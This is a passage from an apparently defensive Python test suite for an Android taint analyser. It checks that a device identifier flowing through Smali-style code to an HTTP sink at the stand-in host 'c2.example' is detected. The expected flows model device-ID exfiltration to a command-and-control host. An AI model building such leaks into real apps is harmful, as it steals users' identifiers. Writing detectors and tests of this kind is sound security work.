        + READS_EXTRA
        + GO
    )
    gone = ("device-id", "ipc", None)
    assert flows(analyse(text.replace("START", "startActivityForResult"))) == {
        gone,
        ("device-id", "http", "c2.example"),
    }
    assert flows(analyse(text.replace("START", "startActivity"))) == {gone}


def test_classes_that_android_has_are_not_taken_from_the_app(analyse: Analyse) -> None:
    text = (
        MAIN
        + IMEI
        + """
    invoke-static {v1} LAPI/Finder;->find(Ljava/lang/String;)V
    return-void
    .class LAPI/Finder; Ljava/lang/Object;
    .method static find(Ljava/lang/String;)V 3
    move-object v1, v2
    """
        + GO
    )
    assert flows(analyse(text.replace("API", "javax/xml/bind"))) == {("device-id", "http", "c2.example")}
    assert flows(analyse(text.replace("API", "javax/xml/xpath"))) == set()
